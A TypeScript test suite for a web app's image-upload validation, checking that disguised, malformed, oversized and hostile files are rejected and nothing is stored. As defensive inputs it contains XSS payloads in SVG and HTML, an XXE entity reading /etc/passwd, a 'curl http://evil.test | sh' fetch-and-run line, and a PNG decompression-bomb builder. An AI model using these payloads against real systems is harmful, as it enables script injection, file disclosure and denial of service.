import { randomBytes } from 'node:crypto'
import { existsSync } from 'node:fs'
import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { beforeAll, expect, test } from 'vitest'
import type { Viewer } from '#app/domain/accounts/viewer.ts'
import { imageFile, readyImage, sendFile } from '#test/support/images.ts'
import { startWorld, type World } from '#test/support/world.ts'

const world: World = startWorld()
let mallory: Viewer
beforeAll(async () => {
  mallory = await world.person('mallory')
})

/** What becomes of a file: what is said at once, or else after it was prepared. Nothing of it may be kept. */
async function fate(file: Buffer): Promise<string | null> {
  const before = await world.db.media.count()
  try {
    const { id, key } = await readyImage(world, mallory, file)
    const { failure } = await world.media.state({ mediaId: id, viewer: mallory })
    if (failure) expect(existsSync(`${world.env.MEDIA_PATH}/${key.slice(0, 2)}/${key}`), 'files are kept').toBe(false)
    return failure
  } catch (error) {
    expect(await world.db.media.count(), 'a row is kept').toBe(before)
    return error instanceof Error && 'fields' in error ? JSON.stringify(error.fields) : String(error)
  }
}

const notAnImage = '{"image":"errors.media.type"}'
const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'

test.each([
  ['SVG', Buffer.from(svg)],
  ['HTML', Buffer.from('<!doctype html><script>alert(document.cookie)</script>')],
  ['XML', Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')],
  ['PDF', Buffer.from(`%PDF-1.7\n${'x'.repeat(100)}`)],
  ['a script', Buffer.from('#!/bin/sh\ncurl http://evil.test | sh # and so on, and so on')],
  ['ImageMagick MVG', Buffer.from("push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 'https://127.0.0.1/x'")],
  ['PostScript', Buffer.from(`%!PS-Adobe-3.0 EPSF-3.0\n${'x'.repeat(100)}`)],
  ['TIFF', Buffer.concat([Buffer.from('49492a00', 'hex'), Buffer.alloc(100)])],
  ["libvips' own", Buffer.concat([Buffer.from('08f2a6b6', 'hex'), Buffer.alloc(100)])],
  ['gzip', gzipSync(Buffer.from(svg.repeat(10)))],
  ['HEIC', Buffer.from('000000186674797068656963000000006d69663168656963'.padEnd(128, '0'), 'hex')],
  ['a few bytes', Buffer.from('GIF89a')],
  ['nothing but noise', randomBytes(4_000)],
])('%s is no image, and nothing of it is written', async (_, file) => {
  expect(await fate(file)).toBe(notAnImage)
})

test('a file that begins as one type and goes on as another is damaged', async () => {
  const [jpeg, png] = [await imageFile(), await imageFile({ format: 'png' })]
  expect(await fate(Buffer.concat([jpeg.subarray(0, 40), Buffer.from(svg.repeat(20))]))).toBe('broken')
  expect(await fate(Buffer.concat([png.subarray(0, 33), jpeg]))).toBe('broken')
  expect(await fate(Buffer.concat([Buffer.from('RIFF\0\0\0\0WEBP'), randomBytes(400)]))).toBe('broken')
  expect(await fate(Buffer.concat([Buffer.from('GIF89a'), randomBytes(400)]))).toBe('broken')
  expect(await fate(Buffer.concat([Buffer.from('00000018667479706176696600000000', 'hex'), randomBytes(400)]))).toBe(
    'broken',
  )
})

test('what stands behind an image goes with everything else that is no pixel', async () => {
  const { key } = await readyImage(world, mallory, Buffer.concat([await imageFile(), Buffer.from(svg)]))
  const file = await (await world.media.file({ key, size: 'large', viewer: mallory }))?.open()
  expect(Buffer.concat((await file?.body.toArray()) ?? []).includes('alert')).toBe(false)
})

test('a file that was cut off is damaged', async () => {
  const png = await imageFile({ format: 'png', width: 900, height: 900 })
  expect(await fate(png.subarray(0, png.length >> 1))).toBe('broken')
})

/** A PNG of one bit a pixel, all black: a few kilobytes that say they are a wall. */
function hugePng(width: number, height: number): Buffer {
  const part = (name: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(name), data])
    const frame = Buffer.alloc(8)
    frame.writeUInt32BE(data.length)
    frame.writeUInt32BE(crc(body), 4)
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head.writeUInt8(1, 8)
  const rows = deflateSync(Buffer.alloc((1 + Math.ceil(width / 8)) * height), { level: 9 })
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    part('IHDR', head),
    part('IDAT', rows),
    part('IEND', Buffer.alloc(0)),
  ])
}

function crc(bytes: Buffer): number {
  let value = 0xffffffff
  for (const byte of bytes) {
    value ^= byte
    for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1
  }
  return (value ^ 0xffffffff) >>> 0
}

test('a decompression bomb is known by its header', async () => {
  expect(await fate(hugePng(10_000, 30_000))).toBe('tooManyPixels')
  expect(await fate(hugePng(20_000, 100))).toBe('tooManyPixels')
  expect(await fate(hugePng(1, 100_000))).toBe('tooManyPixels')
  expect(await fate(hugePng(7_000, 7_000)), 'just small enough').toBe(null)
})

test('an animation of very many frames is refused', async () => {
  const frames = Buffer.alloc(201 * 3).map((_, n) => (Math.floor(n / 3) % 2) * 255)
  const file = await sharp(frames, { raw: { width: 1, height: 201, channels: 3, pageHeight: 1 } })
    .gif({ delay: Array.from({ length: 201 }, () => 20) })
    .toBuffer()
  expect(await fate(file)).toBe('tooManyFrames')
})

test('a file too large is refused before it is read', async () => {
  const file = Buffer.concat([await imageFile(), Buffer.alloc(16 * 1024 * 1024)])
  await expect(sendFile(world, mallory, file)).rejects.toMatchObject({ fields: { image: 'errors.media.tooLarge' } })
})

test('a bad file among good ones takes none of them with it', async () => {
  const ana = await world.person('ana')
  const good = await Promise.all([1, 2].map(async () => sendFile(world, ana, await imageFile())))
  await sendFile(world, mallory, Buffer.concat([Buffer.from('GIF89a'), randomBytes(400)]))
  good.push(await sendFile(world, ana, await imageFile()))
  await world.drain()
  const states = await Promise.all(good.map(({ id }) => world.media.state({ mediaId: id, viewer: ana })))
  expect(states.map(({ state }) => state)).toEqual(['ready', 'ready', 'ready'])
})
